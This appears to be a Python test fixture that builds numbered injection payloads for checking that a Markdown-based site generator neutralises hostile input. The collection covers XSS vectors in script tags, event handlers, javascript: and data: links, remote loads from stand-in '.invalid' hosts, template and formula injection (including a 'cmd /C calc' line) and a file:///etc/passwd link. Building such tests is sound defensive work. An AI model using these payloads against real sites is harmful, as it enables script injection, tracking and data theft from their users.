"""Texts that run or load something wherever they get through as they are; each tells by its number."""

from base64 import b64encode
from typing import NamedTuple


class Payload(NamedTuple):
    """One such text: it sets `__ran` to its number, or asks the host `p<number>.invalid` for something."""

    number: int
    name: str
    text: str

    @property
    def short(self) -> str:
        """The same in one line, as a name of a column or a file needs it."""
        return " ".join(self.text.split())


_SCRIPTS = {
    "script": "<script>RUN</script>",
    "script in capitals": "<ScRiPt>RUN</sCrIpT>",
    "script with a slash": "<script/x>RUN</script>",
    "script without an end": "<script>RUN</script",
    "script of another host": "<script src=//HOST/x.js></script>",
    "module of another host": '<script type=module src="https://HOST/x.mjs"></script>',
    "script within script": "<scr<script>ipt>RUN</script>",
    "script by its code points": "<script>eval('\\x5f\\x5fran=NUMBER')</script>",
    "script in svg": "<svg><script>RUN</script></svg>",
    "script in svg, by entities": "<svg><script>&#95;&#95;ran=NUMBER</script></svg>",
    "script of svg by href": "<svg><script href=https://HOST/x.js /></svg>",
    "script out of a title": "</title><script>RUN</script>",
    "script out of a text area": "</textarea><script>RUN</script>",
    "script out of a style": "</style><script>RUN</script>",
    "script out of a script": "</script><script>RUN</script>",
    "script out of a script, with a space": "</script ><script >RUN</script >",
    "script out of a comment": "--><script>RUN</script>",
    "script out of a bad comment": "--!><script>RUN</script>",
    "script out of CDATA": "]]><script>RUN</script>",
    "script within CDATA": "<![CDATA[<script>RUN</script>]]>",
    "script out of a template": "</template><script>RUN</script>",
    "script in the space of XHTML": '<x:script xmlns:x="http://www.w3.org/1999/xhtml">RUN</x:script>',
    "script in the space of SVG": '<script xmlns="http://www.w3.org/2000/svg">RUN</script>',
    "processing instruction": '<?xml-stylesheet href="https://HOST/x.xsl" type="text/xsl"?>',
    "entity of a document type": '<!DOCTYPE x [<!ENTITY e "<script>RUN</script>">]>&e;<script>RUN</script>',
    "text of a script": '";RUN;"',
    "text of a script, single": "';RUN;'",
    "text of a script, escaped": '\\";RUN;//',
    "text of a template in a script": "${RUN}",
    "line separators in a script": "\u2028RUN\u2029",
    "opens a comment in a script": "<!--<script></script></script><img src=x onerror=RUN>",
}
_HANDLERS = {
    "img onerror": "<img src=x onerror=RUN>",
    "img onerror without spaces": '<img/src="x"/onerror=RUN>',
    "img without an end": "<img src=x onerror=RUN ",
    "image": "<image src=x onerror=RUN>",
    "svg onload": "<svg onload=RUN>",
    "svg onload with a form feed": "<svg\x0conload=RUN>",
    "svg animation": "<svg><animate onbegin=RUN attributeName=x dur=1s>",
    "video": "<video><source onerror=RUN></video>",
    "audio": "<audio src=x onerror=RUN></audio>",
    "body onload": "<body onload=RUN>",
    "details ontoggle": "<details open ontoggle=RUN>more</details>",
    "focus": "<input autofocus onfocus=RUN>",
    "focus on anything": "<b tabindex=0 onfocus=RUN autofocus>b</b>",
    "pointer": "<p onpointerover=RUN onmouseover=RUN>over here</p>",
    "style animation": "<style>@keyframes x{}</style><b style='animation-name:x' onanimationstart=RUN>x</b>",
    "style sheet onerror": "<link rel=stylesheet href=x onerror=RUN>",
    "out of an attribute": '"><img src=x onerror=RUN>',
    "out of an attribute, single": "'><img src=x onerror=RUN>",
    "another attribute": '" onmouseover="RUN" onfocus="RUN" autofocus tabindex="0" x="',
    "another attribute, single": "' onmouseover='RUN' onfocus='RUN' autofocus tabindex='0' x='",
    "another attribute, bare": "x onmouseover=RUN onfocus=RUN tabindex=0 ",
    "attribute list": '*words*{: onclick="RUN" onmouseover="RUN" }',
    "attribute list of a heading": '# words {: onclick="RUN" onmouseover="RUN" }',
    "attribute list of a picture": '![x](x.png){: onerror="RUN" }',
    "attribute list with quotes": '*words*{: onmouseover="RUN" style="background:url(https://HOST/x)" }',
    "math": "<math><mtext><img src=x onerror=RUN></mtext></math>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=RUN>">',
    "math within style": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;"
    "&lt;img src=x onerror=RUN&gt;'>",
    "forms within math": "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>",
    "svg within style": "<svg></p><style><a id='</style><img src=x onerror=RUN>'>",
    "foreignObject": "<svg><foreignObject><body xmlns='http://www.w3.org/1999/xhtml'>"
    "<img src='x' onerror='RUN'/></body></foreignObject></svg>",
    "annotation": "<math><annotation-xml encoding='text/html'><img src=x onerror=RUN></annotation-xml>",
    "select": "<select><template><img src=x onerror=RUN></template></select><img src=x onerror=RUN>",
    "entities": "&lt;img src=x onerror=RUN&gt;",
    "entities twice": "&amp;lt;img src=x onerror=RUN&amp;gt;",
    "entities by number": "&#60;img src=x onerror=RUN&#62;",
    "broad signs": "＜img src=x onerror=RUN＞",
    "JSON escapes": "\\u003cimg src=x onerror=RUN\\u003e",
}
_ADDRESSES = {
    "javascript link": "[go](javascript:RUN)",
    "javascript link, coded": "[go](&#106;avascript&colon;RUN)",
    "javascript link, split by a tab": "[go](java&Tab;script:RUN)",
    "javascript link, split by a line": "[go](<java&NewLine;script:RUN>)",
    "javascript link, after a control": "[go](&#1;javascript:RUN)",
    "javascript link, capitals": "[go](JaVaScRiPt:RUN)",
    "javascript link, percents": "[go](javascript:%5f%5fran=NUMBER)",
    "javascript link in HTML": "<a href=javascript:RUN>go</a>",
    "javascript link in HTML, coded": "<a href='&#x6A;avascript&#x3A;RUN'>go</a>",
    "javascript link in svg": "<svg><a xlink:href=javascript:RUN><text y=20>go</text></a></svg>",
    "javascript autolink": "<javascript:RUN>",
    "javascript by a definition": "[go][d]\n\n[d]: javascript:RUN",
    "javascript by a picture": "![x](javascript:RUN)",
    "javascript alone": "javascript:RUN",
    "vbscript": "[go](vbscript:RUN)",
    "data link": "[go](data:text/html,<script>RUN</script>)",
    "data link, coded": "[go](data:text/html;base64,BASE64)",
    "data script": "<script src='data:text/javascript,RUN'></script>",
    "data picture": "![x](data:image/svg+xml,<svg/onload=RUN>)",
    "data object": "<object data='data:text/html,<script>parent.RUN</script>'></object>",
    "file": "[go](file:///etc/passwd) <img src=x onerror=RUN>",
    "title of a link": '[go](x "\\" onmouseover=RUN x=\\"") [go](x \'" onmouseover="RUN\')',
    "address out of a link": '[go](x"onmouseover=RUN//)',
    "address out of a link, by angles": '[go](<x" onmouseover=RUN y=>)',
    "autolink with a quote": '<https://x.example/"onmouseover=RUN//>',
    "mail with a quote": '<a@b.example"onmouseover=RUN>',
    "alternative text": '![" onerror="RUN](x.png) ![<img src=x onerror=RUN>](x.png)',
    "picture within a link": "[![x](x.png)](javascript:RUN)",
    "form": "<form action=javascript:RUN><button>go</button></form>",
    "form of a button": "<form><button formaction=javascript:RUN>go</button></form>",
    "frame": "<iframe src=javascript:parent.RUN></iframe>",
    "frame with a page": "<iframe srcdoc='<script>parent.RUN</script>'></iframe>",
    "embed": "<embed src=javascript:RUN>",
    "refresh": "<meta http-equiv=refresh content='0;url=https://HOST/'>",
    "refresh by javascript": '"><meta http-equiv="refresh" content="0;url=javascript:RUN"><svg onload=RUN>',
}
_LOADS = {
    "picture of another host": "<img src=https://HOST/x.png>",
    "picture in Markdown": "![x](https://HOST/x.png)",
    "picture without a scheme": "![x](//HOST/x.png)",
    "picture with backslashes": "![x](\\\\\\\\HOST/x.png) ![x](/\\HOST/x.png)",
    "picture by a definition": "![x][p]\n\n[p]: https://HOST/x.png",
    "pictures to choose from": "<img srcset='https://HOST/x.png 1x'>",
    "picture of a poster": "<video poster=https://HOST/x.png></video>",
    "picture in a style": "<b style='background:url(https://HOST/x.png)'>x</b>",
    "style out of an attribute": '" style="background:url(https://HOST/x.png)" x="',
    "style": "<style>body{background:url(https://HOST/x.png)}</style>",
    "style that imports": "<style>@import url(//HOST/x.css);</style>",
    "style out of a style": ";}*{background:url(https://HOST/x.png)}",
    "style expression": "<b style='width:expression(RUN)'>x</b><img src=https://HOST/x.png>",
    "style sheet": "<link rel=stylesheet href=https://HOST/x.css>",
    "prefetch": "<link rel=prefetch href=https://HOST/x>",
    "preload": "<link rel=preload as=image href=https://HOST/x.png>",
    "base": "<base href=https://HOST/><img src=x.png>",
    "use": "<svg><use href=https://HOST/x.svg#x /></svg><svg><image href=https://HOST/x.png /></svg>",
    "filter": "<svg><feImage href=https://HOST/x.png /></svg><img src=https://HOST/x.png>",
    "input": "<input type=image src=https://HOST/x.png>",
    "object": "<object data=https://HOST/x></object>",
    "frame of another host": "<iframe src=https://HOST/></iframe>",
    "portal of a table": "<table background=https://HOST/x.png><tr><td>x</table>",
    "ping": "<a href=/ ping=https://HOST/><img src=https://HOST/x.png></a>",
}
_MARKDOWN = {
    "footnote": "words[^1]\n\n[^1]: <img src=x onerror=RUN>",
    "abbreviation": 'words HTML\n\n*[HTML]: "><img src=x onerror=RUN>',
    "definition list": "words\n:   <img src=x onerror=RUN>",
    "Markdown in HTML": '<div markdown="1" onmouseover="RUN">*words*</div>',
    "info of a fence": '```" onmouseover="RUN\ncode\n```\n\n<img src=x onerror=RUN>',
    "attributes of a fence": '``` {.python onmouseover="RUN" title="<img src=x onerror=RUN>"}\ncode\n```',
    "mermaid": '```mermaid\ngraph TD\n  A["<img src=x onerror=RUN>"] --> B\n  click A "javascript:RUN"\n```',
    "our own fence": "```vision\nkpi: <img src=x onerror=RUN>\nshow: chart\n```",
    "fence without an end": "~~~\n<img src=x onerror=RUN>",
    "code in a line": "`<img src=x onerror=RUN>` ``<script>RUN</script>",
    "snippet": '--8<-- "mkdocs.yml"\n<img src=x onerror=RUN>',
    "emoji": ':smile: :"onerror=RUN: :material-x"><img src=x onerror=RUN>:',
    "template": "{{ config.site_name }}{% raw %}<img src=x onerror=RUN>{{ 7*7 }}",
    "template of a script": "{{constructor.constructor('RUN')()}}<img src=x onerror=RUN>",
    "format": "{0.__class__} %(x)s %s {x!r} <img src=x onerror=RUN>",
    "keys": "++ctrl+<img src=x onerror=RUN>++ ==<img src=x onerror=RUN>==",
    "mathematics": "$\\href{javascript:RUN}{x}$ \\(<img src=x onerror=RUN>\\)",
    "admonition": '!!! note "<img src=x onerror=RUN>"\n    words',
    "list of tasks": "- [x] <img src=x onerror=RUN>\n- [ ] [go](javascript:RUN)",
    "table": "| <img src=x onerror=RUN> | b |\n| --- | --- |\n| [go](javascript:RUN) | <svg onload=RUN> |",
    "front matter": "---\ntitle: <img src=x onerror=RUN>\ntemplate: x.html\n---",
    "button of the theme": "[go](javascript:RUN){ .md-button }",
    "comment": "<!-- --!><img src=x onerror=RUN> -->",
    "placeholder": '<div data-vision-block="0"></div><img src=x onerror=RUN>',
    "placeholder of a parser": "\x02wzxhzdk:0\x03<img src=x onerror=RUN>",
    "direction": "\u202e>RUN=rorreno x=crs gmi<\u202c<img src=x onerror=RUN>",
}
_FORMULAS = {
    "formula": '=HYPERLINK("https://HOST/","go")<img src=x onerror=RUN>',
    "formula, plus": "+1+cmd|' /C calc'!A0<img src=x onerror=RUN>",
    "formula, minus": "-2+3<img src=x onerror=RUN>",
    "formula, at": "@SUM(1)<img src=x onerror=RUN>",
    "formula after a quote": '",=1+1,"<img src=x onerror=RUN>',
    "lines of a calendar": "words\r\nEND:VEVENT\r\nX-PROP:1\r\nURL:javascript:RUN<img src=x onerror=RUN>",
    "lines of a calendar, escaped": "words\\nATTACH:https://HOST/\\;X=1:<img src=x onerror=RUN>",
    "parameters of a calendar": 'words";X-A="b":c,<img src=x onerror=RUN>',
    "command of a workflow": "words\n::error::x%0A::add-mask::y <img src=x onerror=RUN>",
}
_UNPRINTABLE = "\x00\x01\x02\x03\x0c"


def _payloads() -> tuple[Payload, ...]:
    kinds = (_SCRIPTS, _HANDLERS, _ADDRESSES, _LOADS, _MARKDOWN, _FORMULAS)
    every = [item for kind in kinds for item in kind.items()]
    return tuple(
        Payload(number, name, _numbered(text, number)) for number, (name, text) in enumerate(every, 1)
    )


def _numbered(text: str, number: int) -> str:
    coded = b64encode(f"<script>top.__ran={number}</script>".encode()).decode()
    run = text.replace("RUN", f"__ran={number}").replace("HOST", f"p{number}.invalid")
    return run.replace("NUMBER", str(number)).replace("BASE64", coded)


PAYLOADS = _payloads()
WRITABLE = tuple(one for one in PAYLOADS if not set(_UNPRINTABLE) & set(one.text))
"""Those that a record may hold: the others are refused, which the broken records show."""
HARMLESS = tuple(Payload(one.number, one.name, f"Harmless words {one.number}") for one in WRITABLE)
"""Words in their places, for a site to compare with."""
